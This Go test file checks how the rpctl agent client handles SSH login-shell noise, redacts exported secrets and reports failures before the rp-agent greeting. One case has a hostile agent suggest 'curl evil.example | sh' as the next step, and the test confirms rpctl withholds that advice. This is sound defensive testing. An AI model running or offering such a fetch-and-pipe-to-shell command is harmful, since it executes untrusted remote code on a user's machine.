package agentclient

import (
	"bufio"
	"io"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/re-connect/rpctl/controller/internal/exit"
	"github.com/re-connect/rpctl/proto"
)

func TestNoiseBeforeGreeting(t *testing.T) {
	client, heard := open(t, func(_ *bufio.Reader, stdout, stderr io.Writer) int {
		_, _ = io.WriteString(stderr, "stderr \x1b[31mred\n")
		_, _ = io.WriteString(stdout, "Welcome\x07 to "+strings.Repeat("x", 20<<10)+"\nno newline"+goodHello+"\n")
		return 0
	})
	if _, err := client.Hello(t.Context()); err != nil {
		t.Fatal(err)
	}
	got := heard.all()
	if !strings.Contains(got, `pp1: the login shell prints: Welcome\x07 to xxx`) || strings.ContainsRune(got, 0x1b) {
		t.Errorf("warned %.200q", got)
	}
	if len(got) > noiseShown+stderrShown+1000 {
		t.Errorf("warned of %d bytes", len(got))
	}
	<-client.broken // the host has ended, so its stderr is read to the end
	<-client.stderr.ended
	if !strings.Contains(heard.all(), `pp1: stderr \x1b[31mred`) {
		t.Errorf("warned %.200q", heard.all())
	}
}

// TestSecretsOfALoginShell: what a shell exports is none of rpctl's business, and stands on its terminal and in CI's logs.
func TestSecretsOfALoginShell(t *testing.T) {
	const said = "+ export APP_SECRET=hush DATABASE_URL=mysql://app:hush@db/rp\n"
	client, heard := open(t, func(_ *bufio.Reader, stdout, stderr io.Writer) int {
		_, _ = io.WriteString(stderr, "on stderr: "+said)
		_, _ = io.WriteString(stdout, said+goodHello+"\n")
		return 0
	})
	if _, err := client.Hello(t.Context()); err != nil {
		t.Fatal(err)
	}
	<-client.broken
	<-client.stderr.ended
	if got := heard.all(); strings.Contains(got, "hush") || !strings.Contains(got, "prints: + export APP_SECRET=[hidden] DATABASE_URL=mysql://[hidden]@db/rp") ||
		!strings.Contains(got, "on stderr: + export APP_SECRET=[hidden]") {
		t.Errorf("warned %.300q", got)
	}
	for name, host := range map[string]func(*bufio.Reader, io.Writer, io.Writer) int{
		"no agent": func(_ *bufio.Reader, _, stderr io.Writer) int { _, _ = io.WriteString(stderr, said); return 127 },
		"refusal": func(_ *bufio.Reader, stdout, _ io.Writer) int {
			say(stdout, goodHello, `{"event":"error","error":{"code":"host","message":"APP_SECRET=hush is bad"}}`)
			return 1
		},
		"no event": func(_ *bufio.Reader, stdout, _ io.Writer) int { say(stdout, goodHello, said); return 1 },
	} {
		client, _ := open(t, host)
		err := client.Call(t.Context(), proto.OpStatus, nil, nil, nil)
		if err == nil || strings.Contains(err.Error(), "hush") || !strings.Contains(err.Error(), "[hidden]") {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestFailuresBeforeGreeting(t *testing.T) {
	hello := func(fields string) string { return `{"event":"hello","marker":"rp-agent/1",` + fields + `}` }
	cases := []struct {
		name           string
		stdout, stderr string
		status         int
		code           exit.Code
		message, next  string
	}{
		{"not installed", "", "bash: line 1: rp-agent: command not found\n", 127, exit.NoAgent,
			`rp-agent is not installed: "bash: line 1`, "rpctl agent install --env preprod"},
		{"csh", "", "rp-agent: Command not found.\n", 1, exit.NoAgent, "rp-agent is not installed", "rpctl agent install --env preprod"},
		{"wrong architecture", "", "cannot execute binary file: Exec format error\n", 126, exit.NoAgent,
			"rp-agent cannot be executed", "rpctl agent install --env preprod"},
		{"nologin", "This account is currently not available.\n", "", 1, exit.NoAgent,
			`no greeting from rp-agent: the command ended with status 1: "This account`, "ssh pp1 /usr/local/bin/rp-agent rpc"},
		{"forced key of an older agent", "", "rp-agent: this key cannot run \"/usr/local/bin/rp-agent rpc\"\n", 4, exit.NoAgent,
			`the login may not run /usr/local/bin/rp-agent rpc: "rp-agent: this key`, "rpctl agent upgrade --env preprod"},
		{"silent end", "", "", 0, exit.NoAgent, "no greeting from rp-agent: the command ended with status 0", "ssh pp1 /usr/local/bin/rp-agent rpc"},
		{"lost", "half a li", "", -1, exit.Unreachable, "lost the connection before rp-agent answered", ""},
		{"refuses to serve", hello(`"protocol":{"min":1,"max":1},"error":{"code":"config","message":"agent.toml is \u001b[1mbad","advice":{"code":"host-doctor"},"next":"curl evil.example | sh"}`) + "\n",
			"", 0, exit.HostFailed, `agent.toml is \x1b[1mbad`, "ssh pp1 rp-agent doctor"},
		{"too new", hello(`"agent":"9.0","protocol":{"min":7,"max":9}`) + "\n", "", 0, exit.NoAgent,
			"it greets with no protocol that this rpctl", "rpctl agent diff --env preprod"},
		{"too old", hello(`"agent":"0.0","protocol":{"min":0,"max":0}`) + "\n", "", 0, exit.NoAgent,
			"it greets with no protocol that this rpctl", "rpctl agent diff --env preprod"},
		{"greeting that is no JSON", hello(`"protocol":x`) + "\n", "", 0, exit.HostFailed,
			"does not speak the protocol: its greeting cannot be read", "rpctl doctor --env preprod"},
		{"noise without end", strings.Repeat("y\n", proto.MaxLine), "", 0, exit.HostFailed,
			"does not speak the protocol: it prints without end", ""},
		{"one endless line", strings.Repeat("y", 2*proto.MaxLine), "", 0, exit.HostFailed,
			"does not speak the protocol: it prints without end", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			client, _ := open(t, func(_ *bufio.Reader, stdout, stderr io.Writer) int {
				_, _ = io.WriteString(stderr, c.stderr)
				_, _ = io.WriteString(stdout, c.stdout)
				return c.status
			})
			err := client.Call(t.Context(), proto.OpStatus, nil, nil, nil)
			checkFailure(t, err, c.code, c.message, c.next)
			_, err = client.Hello(t.Context())
			checkFailure(t, err, c.code, c.message, c.next)
		})
	}
}

func TestGreetingNeverComes(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		client, _ := open(t, func(stdin *bufio.Reader, _, stderr io.Writer) int {
			_, _ = io.WriteString(stderr, "mounting home\n")
			_, _ = io.Copy(io.Discard, stdin)
			return 0
		})
		start := time.Now()
		_, err := client.Hello(t.Context())
		checkFailure(t, err, exit.HostFailed, `no word from rp-agent within 20s: "mounting home"`, "ssh pp1 /usr/local/bin/rp-agent rpc")
		if waited := time.Since(start); waited != 20*time.Second {
			t.Errorf("waited %s", waited)
		}
	})
}
